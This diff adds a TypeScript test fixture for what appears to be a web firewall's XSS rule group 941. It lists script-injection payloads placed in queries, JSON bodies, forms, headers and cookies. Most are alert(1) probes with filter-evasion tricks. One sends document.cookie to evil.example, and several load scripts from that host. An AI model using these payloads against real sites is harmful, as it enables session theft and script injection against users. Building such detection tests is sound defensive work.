@@ -1,0 +1,26 @@
+import { each, inAgent, inCookie, inField, inForm, inJson, inList, inName, inPatch, inQuery, inReferer, type Sent } from "../request";
+
+/** Scripts for whoever sees the field later: 941. */
+export const markup: Sent[] = [
+  ...each("941", inQuery, [
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(document.domain)", "<iframe src=javascript:alert(1)>",
+    "<a href=\"jav&#x09;ascript:alert(1)\">", "<body onload=alert(1)>", "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
+    "<style>@import'javascript:alert(1)'</style>", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "<embed src=\"//evil.example/x.swf\">",
+    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=//evil.example/>", "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>", "＜script＞alert(1)＜/script＞", "<scr\u0000ipt>alert(1)</script>", "vbscript:msgbox(1)", "<video><source onerror=\"alert(1)\">",
+    "%3Cscript%3Ealert(1)%3C/script%3E", "<ScRiPt sRc=//evil.example/x.js></sCrIpT>", "<link rel=stylesheet href=//evil.example/x.css>", "<applet code=x>",
+    "<x onclick=alert(1)>нажмите</x>", "[].constructor.constructor('alert(1)')()", "<form action=javascript:alert(1)><button>",
+  ]),
+  ...each("941", inJson, [
+    "<script>fetch('//evil.example/'+document.cookie)</script>", "<img src=1 onerror=alert(1)>", "<svg/onload=alert(1)>", "<a href=javascript:alert(1)>скидка</a>",
+    "Заказ <script>alert('взлом')</script> срочно", "<iframe srcdoc='<script>alert(1)</script>'>", "<marquee onstart=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
+  ]),
+  ...each("941", inList, ["<script src=//evil.example></script>", "<svg><animate onbegin=alert(1)>"]),
+  ...each("941", inPatch, ["<img src=x onerror=eval(atob('YQ=='))>"]),
+  ...each("941", inForm, ["<script>alert(1)</script>", "<body onpageshow=alert(1)>"]),
+  ...each("941", inField, ["<img src=x onerror=alert(1)>"]),
+  ...each("941", inAgent, ["<script>alert(1)</script>"]),
+  ...each("941", inReferer, ["<script>alert(1)</script>"]),
+  ...each("941", inCookie, ["<script>alert(1)</script>"]),
+  ...each("941", inName, ["<script>alert(1)</script>"]),
+];
